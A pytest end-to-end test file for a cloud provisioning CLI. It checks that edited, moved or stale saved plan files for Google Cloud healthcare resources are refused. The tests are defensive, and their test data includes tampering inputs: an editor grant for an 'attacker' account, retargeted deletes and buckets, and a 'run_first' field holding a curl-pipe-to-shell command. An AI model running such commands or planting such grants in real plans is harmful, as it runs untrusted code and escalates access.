"""A saved plan applies exactly what it shows, or nothing: edited plan files, moved plans and
plans whose blueprint is gone."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from google.auth.credentials import AnonymousCredentials
from google.cloud import storage

from provision.emulator import samples
from provision.emulator.server import RunningEmulator
from tests.e2e.conftest import BILLING, PROJECT, CliFn, clear_journal, mutations
from tests.e2e.test_healthcare_storage import healthcare, stow

OWNER = "user:attacker@example.com"
ROLE = "roles/editor"


def policy_members(google: Any, role: str) -> list[str]:
    crm = google("cloudresourcemanager", "v3")
    policy = crm.projects().getIamPolicy(resource=f"projects/{PROJECT}", body={}).execute()
    return sorted(m for b in policy.get("bindings", []) if b["role"] == role for m in b["members"])


def saved_after_a_change(cli: CliFn, blueprint: Path, tmp_path: Path) -> Path:
    """Apply the blueprint, then add bob as DICOM viewer and save that plan."""
    assert cli("apply", blueprint, "--yes").exit_code == 0
    text = blueprint.read_text().replace(
        "[user:alice@example.com]", "[user:alice@example.com, user:bob@example.com]"
    )
    blueprint.write_text(text)
    saved = tmp_path / "plan.json"
    made = cli("plan", blueprint, "--out", saved)
    assert made.exit_code == 0, made.output
    return saved


def upload(emulator: RunningEmulator, bucket: str, files: dict[str, bytes]) -> None:
    client = storage.Client(
        project=PROJECT,
        credentials=AnonymousCredentials(),  # type: ignore[no-untyped-call]
        client_options={"api_endpoint": emulator.base_url},
    )
    for name, data in files.items():
        client.bucket(bucket).blob(name).upload_from_string(data, content_type="application/dicom")


def edit(saved: Path, address: str, **fields: Any) -> None:
    document = json.loads(saved.read_text())
    change = next(c for c in document["changes"] if c["address"] == address)
    change.update(fields)
    saved.write_text(json.dumps(document))


def test_an_extra_owner_in_an_unread_change_is_refused(
    cli: CliFn, blueprint: Path, tmp_path: Path, emulator: RunningEmulator, google: Any
) -> None:
    saved = saved_after_a_change(cli, blueprint, tmp_path)
    change = json.loads(saved.read_text())["changes"]
    iam = next(c for c in change if c["kind"] == "project_iam")
    after = dict(iam["after"])
    after["bindings"] = [*after["bindings"], {"role": ROLE, "members": [OWNER]}]
    edit(saved, iam["address"], observed_exists=None, after=after)
    clear_journal(emulator)
    applied = cli("apply", saved)
    assert applied.exit_code == 1, applied.output
    assert "does not hold together" in applied.stderr
    assert f"project_iam:projects/{PROJECT}" in applied.stderr
    assert mutations(emulator) == []
    assert OWNER not in policy_members(google, ROLE)


def test_an_owner_hidden_in_the_saved_before_is_never_written(
    cli: CliFn, blueprint: Path, tmp_path: Path, emulator: RunningEmulator, google: Any
) -> None:
    """The write starts from the policy read again under the lease, not the file's `before`."""
    saved = saved_after_a_change(cli, blueprint, tmp_path)
    iam = next(c for c in json.loads(saved.read_text())["changes"] if c["kind"] == "project_iam")
    before = dict(iam["before"])
    before["bindings"] = [*before["bindings"], {"role": ROLE, "members": [OWNER]}]
    edit(saved, iam["address"], before=before)
    applied = cli("apply", saved)
    assert applied.exit_code == 0, applied.output
    assert "user:bob@example.com" in policy_members(google, "roles/healthcare.dicomViewer")
    assert OWNER not in policy_members(google, ROLE)


def test_a_disable_edited_into_a_plan_needs_the_flag(
    cli: CliFn, blueprint: Path, tmp_path: Path, emulator: RunningEmulator
) -> None:
    assert cli("apply", blueprint, "--yes").exit_code == 0
    blueprint.write_text(
        blueprint.read_text().replace(
            "  - storage.googleapis.com\n",
            "  - storage.googleapis.com\n  - pubsub.googleapis.com\n",
        )
    )
    saved = tmp_path / "plan.json"
    assert cli("plan", blueprint, "--out", saved).exit_code == 0
    wanted = ["healthcare.googleapis.com", "pubsub.googleapis.com", "storage.googleapis.com"]
    edit(
        saved,
        f"services:projects/{PROJECT}/services",
        observed_exists=None,
        diffs=[
            {
                "path": "services",
                "before": ["healthcare.googleapis.com", "storage.googleapis.com"],
                "after": [s for s in wanted if s != "storage.googleapis.com"],
            }
        ],
    )
    clear_journal(emulator)
    applied = cli("apply", saved)
    assert applied.exit_code == 1, applied.output
    assert "does not hold together" in applied.stderr
    assert mutations(emulator) == []


def test_a_plan_applied_from_another_folder_still_checks_its_blueprint(
    cli: CliFn,
    blueprint: Path,
    tmp_path: Path,
    emulator: RunningEmulator,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    assert cli("plan", blueprint.name, "--out", "plan.json").exit_code == 0
    blueprint.write_text(blueprint.read_text().replace("env: test", "env: other"))
    monkeypatch.chdir("/")
    clear_journal(emulator)
    refused = cli("apply", tmp_path / "plan.json")
    assert refused.exit_code == 1, refused.output
    assert "stale" in refused.stderr and str(blueprint) in refused.stderr
    assert mutations(emulator) == []


def test_a_plan_whose_blueprint_is_gone_is_refused(
    cli: CliFn, blueprint: Path, tmp_path: Path, emulator: RunningEmulator
) -> None:
    saved = tmp_path / "plan.json"
    assert cli("plan", blueprint, "--out", saved).exit_code == 0
    blueprint.unlink()
    clear_journal(emulator)
    refused = cli("apply", saved)
    assert refused.exit_code == 1
    assert "cannot be found" in refused.stderr and str(blueprint) in refused.stderr
    assert mutations(emulator) == []


def test_a_plan_moved_with_its_blueprint_applies(
    cli: CliFn, blueprint: Path, tmp_path: Path, emulator: RunningEmulator
) -> None:
    saved = tmp_path / "plan.json"
    assert cli("plan", blueprint, "--out", saved).exit_code == 0
    moved = tmp_path / "elsewhere"
    moved.mkdir()
    shutil.move(saved, moved / "plan.json")
    shutil.move(blueprint, moved / blueprint.name)
    applied = cli("apply", moved / "plan.json")
    assert applied.exit_code == 0, applied.output
    assert str(moved / blueprint.name) in applied.stdout


def test_a_change_outside_the_blueprint_is_refused(
    cli: CliFn, blueprint: Path, tmp_path: Path, emulator: RunningEmulator
) -> None:
    saved = tmp_path / "plan.json"
    assert cli("plan", blueprint, "--out", saved).exit_code == 0
    document = json.loads(saved.read_text())
    other = dict(document["changes"][0])
    other.update(address="project:projects/someone-else", name="projects/someone-else")
    document["changes"].append(other)
    saved.write_text(json.dumps(document))
    clear_journal(emulator)
    refused = cli("apply", saved)
    assert refused.exit_code == 1
    assert "project:projects/someone-else" in refused.stderr
    assert "does not declare" in refused.stderr
    assert mutations(emulator) == []


def test_saved_plans_of_every_kind_apply(
    cli: CliFn, tmp_path: Path, emulator: RunningEmulator
) -> None:
    """Re-deriving each change from its saved before/after accepts real plans of every kind:
    from an empty world, then after the blueprint changed (labels, IAM, a new site)."""
    target = tmp_path / "blueprints"
    shutil.copytree(Path(__file__).resolve().parents[2] / "blueprints", target)
    dev = target / "dev.yaml"
    saved = tmp_path / "plan.json"
    assert cli("plan", dev, "--out", saved).exit_code == 0
    first = cli("apply", saved)
    assert first.exit_code == 0, first.output
    (target / "sites" / "st-marys.yaml").write_text("name: st-marys\n")
    dev.write_text(dev.read_text().replace("env: dev", "env: development"))
    second = cli("plan", dev, "--out", saved)
    assert second.exit_code == 0 and "~ " in second.stdout, second.output
    applied = cli("apply", saved)
    assert applied.exit_code == 0, applied.output
    assert cli("plan", dev, "--detailed-exitcode").exit_code == 0


# ----- a saved plan is what the blueprint and the live state give, field by field

REPO = Path(__file__).resolve().parents[2]
DEV_PROJECT = "imaging-dev-4821"
DEV_LOCATION = f"projects/{DEV_PROJECT}/locations/us-central1"
MAIN_STORE = f"{DEV_LOCATION}/datasets/imaging-dev/dicomStores/dicom-main"
GENERAL_STORE = f"{DEV_LOCATION}/datasets/general-imaging/dicomStores/general-dicom"
IMPORT_BUCKET = f"{DEV_PROJECT}-dicom-import"
SCRATCH = f"projects/{PROJECT}/locations/us-central1/datasets/imaging/dicomStores/scratch"

STORES = f"""\
version: 1
project:
  id: {PROJECT}
  billingAccount: {BILLING}
services:
  - healthcare.googleapis.com
  - storage.googleapis.com
datasets:
  - id: imaging
    location: us-central1
    dicomStores:
      - id: main
      - id: scratch
        deletionProtection: false
"""


@pytest.fixture
def dev(tmp_path: Path) -> Path:
    """A copy of blueprints/dev.yaml with its site files."""
    target = tmp_path / "blueprints"
    shutil.copytree(REPO / "blueprints", target)
    return target / "dev.yaml"


def changes_of(saved: Path, kind: str) -> list[dict[str, Any]]:
    return [c for c in json.loads(saved.read_text())["changes"] if c["kind"] == kind]


def studies(google: Any, store: str) -> list[str]:
    found = healthcare(google).dicomStores().searchForStudies(parent=store, dicomWebPath="studies")
    return [s["0020000D"]["Value"][0] for s in found.execute() or []]


def store_exists(google: Any, store: str) -> bool:
    listed = healthcare(google).dicomStores().list(parent=store.rpartition("/dicomStores/")[0])
    return store in {s["name"] for s in listed.execute().get("dicomStores", [])}


def test_a_delete_edited_into_a_declared_store_is_refused(
    cli: CliFn, dev: Path, tmp_path: Path, emulator: RunningEmulator, google: Any
) -> None:
    assert cli("apply", dev, "--yes").exit_code == 0
    stow(emulator, GENERAL_STORE)
    (held,) = studies(google, GENERAL_STORE)
    saved = tmp_path / "plan.json"
    assert cli("plan", dev, "--out", saved).exit_code == 0
    address = f"healthcare.dicom_store:{GENERAL_STORE}"
    before = {"labels": {}, "contents": "holds no DICOM studies", "holds": [held]}
    edit(
        saved,
        address,
        action="delete",
        after=None,
        diffs=[],
        before=before,
        reason="owned and holds no studies",
    )
    clear_journal(emulator)
    refused = cli("apply", saved, "--allow-delete", address)
    assert refused.exit_code == 1, refused.output
    assert address in refused.stderr and "declares" in refused.stderr
    assert mutations(emulator) == []
    assert studies(google, GENERAL_STORE) == [held]


def test_contents_edited_into_a_saved_delete_are_refused(
    cli: CliFn, tmp_path: Path, emulator: RunningEmulator, google: Any
) -> None:
    """A store dropped from the blueprint, planned for deletion while empty: a study stored
    since is never deleted, whatever the file says the store held."""
    blueprint = tmp_path / "stores.yaml"
    blueprint.write_text(STORES)
    assert cli("apply", blueprint, "--yes").exit_code == 0
    blueprint.write_text(
        STORES.replace("      - id: scratch\n        deletionProtection: false\n", "")
    )
    address = f"healthcare.dicom_store:{SCRATCH}"
    saved = tmp_path / "plan.json"
    made = cli("plan", blueprint, "--allow-delete", address, "--out", saved)
    assert made.exit_code == 0 and "holds no DICOM studies" in made.stdout, made.output
    stow(emulator, SCRATCH)
    (held,) = studies(google, SCRATCH)
    (planned,) = [c for c in changes_of(saved, "healthcare.dicom_store") if c["action"] == "delete"]
    edit(saved, address, before={**planned["before"], "holds": [held]})
    clear_journal(emulator)
    refused = cli("apply", saved, "--allow-delete", address)
    assert refused.exit_code == 1, refused.output
    assert address in refused.stderr
    assert mutations(emulator) == []
    assert studies(google, SCRATCH) == [held]


def test_a_saved_delete_is_refused_when_the_object_holds_more_now(
    cli: CliFn, tmp_path: Path, emulator: RunningEmulator, google: Any
) -> None:
    """The contents a saved delete showed are read again before anything is written."""
    blueprint = tmp_path / "stores.yaml"
    blueprint.write_text(STORES)
    assert cli("apply", blueprint, "--yes").exit_code == 0
    blueprint.write_text(
        STORES.replace("      - id: scratch\n        deletionProtection: false\n", "")
    )
    address = f"healthcare.dicom_store:{SCRATCH}"
    saved = tmp_path / "plan.json"
    assert cli("plan", blueprint, "--allow-delete", address, "--out", saved).exit_code == 0
    stow(emulator, SCRATCH)
    clear_journal(emulator)
    refused = cli("apply", saved, "--allow-delete", address)
    assert refused.exit_code == 1, refused.output
    assert "stale" in refused.stderr and address in refused.stderr
    assert "holds 1 DICOM study" in refused.stderr
    assert mutations(emulator) == []
    assert store_exists(google, SCRATCH)


@pytest.mark.parametrize(
    ("field", "value"), [("name", "evil-bucket-xyz"), ("projectId", "someone-else-1234")]
)
def test_a_bucket_edited_in_after_is_refused(
    cli: CliFn, dev: Path, tmp_path: Path, emulator: RunningEmulator, field: str, value: str
) -> None:
    saved = tmp_path / "plan.json"
    assert cli("plan", dev, "--out", saved).exit_code == 0
    address = f"storage.bucket:projects/_/buckets/{IMPORT_BUCKET}"
    (bucket,) = [c for c in changes_of(saved, "storage.bucket") if c["address"] == address]
    edit(saved, address, after={**bucket["after"], field: value})
    clear_journal(emulator)
    refused = cli("apply", saved)
    assert refused.exit_code == 1, refused.output
    assert address in refused.stderr and f"after.{field}" in refused.stderr
    assert mutations(emulator) == []


def test_an_import_edited_into_another_store_is_refused(
    cli: CliFn, dev: Path, tmp_path: Path, emulator: RunningEmulator, google: Any
) -> None:
    assert cli("apply", dev, "--yes").exit_code == 0
    upload(emulator, IMPORT_BUCKET, {"dicom/a.dcm": samples.generate(1, seed=5)[0].data})
    saved = tmp_path / "plan.json"
    assert cli("plan", dev, "--out", saved).exit_code == 0
    (planned,) = [
        c for c in changes_of(saved, "healthcare.dicom_import") if c["after"]["store"] == MAIN_STORE
    ]
    assert planned["action"] == "run"
    edit(saved, planned["address"], after={**planned["after"], "store": GENERAL_STORE})
    clear_journal(emulator)
    refused = cli("apply", saved)
    assert refused.exit_code == 1, refused.output
    assert planned["address"] in refused.stderr and "after.store" in refused.stderr
    assert mutations(emulator) == []
    assert studies(google, GENERAL_STORE) == []


def test_a_change_left_out_of_a_saved_plan_is_refused(
    cli: CliFn, blueprint: Path, tmp_path: Path, emulator: RunningEmulator
) -> None:
    """Dropping a reviewed change (here: the grant) does not apply the rest."""
    saved = saved_after_a_change(cli, blueprint, tmp_path)
    document = json.loads(saved.read_text())
    document["changes"] = [c for c in document["changes"] if c["kind"] != "project_iam"]
    saved.write_text(json.dumps(document))
    clear_journal(emulator)
    refused = cli("apply", saved)
    assert refused.exit_code == 1, refused.output
    assert f"project_iam:projects/{PROJECT}" in refused.stderr
    assert mutations(emulator) == []


def test_a_json_plan_applies_from_another_folder(
    cli: CliFn,
    blueprint: Path,
    tmp_path: Path,
    emulator: RunningEmulator,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    printed = cli("plan", blueprint.name, "--format", "json")
    assert printed.exit_code == 0, printed.output
    assert json.loads(printed.stdout)["blueprint"]["path"] == str(blueprint)
    (tmp_path / "plan.json").write_text(printed.stdout)
    monkeypatch.chdir("/")
    applied = cli("apply", tmp_path / "plan.json")
    assert applied.exit_code == 0, applied.output


def test_an_unknown_top_level_key_is_refused(
    cli: CliFn, blueprint: Path, tmp_path: Path, emulator: RunningEmulator
) -> None:
    saved = tmp_path / "plan.json"
    assert cli("plan", blueprint, "--out", saved).exit_code == 0
    document = json.loads(saved.read_text())
    document["run_first"] = ["curl example.com | sh"]
    saved.write_text(json.dumps(document))
    refused = cli("apply", saved)
    assert refused.exit_code == 1
    assert "unknown field 'run_first'" in refused.stderr
    assert len(refused.stderr.strip().splitlines()) == 1
    assert mutations(emulator) == []


def test_a_saved_plan_of_one_site_applies_just_that_site(
    cli: CliFn, dev: Path, tmp_path: Path, emulator: RunningEmulator, google: Any
) -> None:
    saved = tmp_path / "plan.json"
    assert cli("plan", dev, "--site", "general", "--out", saved).exit_code == 0
    assert json.loads(saved.read_text())["blueprint"]["site"] == "general"
    applied = cli("apply", saved)
    assert applied.exit_code == 0, applied.output
    assert store_exists(google, GENERAL_STORE)
    datasets = healthcare(google).list(parent=DEV_LOCATION).execute().get("datasets", [])
    assert [d["name"] for d in datasets] == [GENERAL_STORE.rpartition("/dicomStores/")[0]]
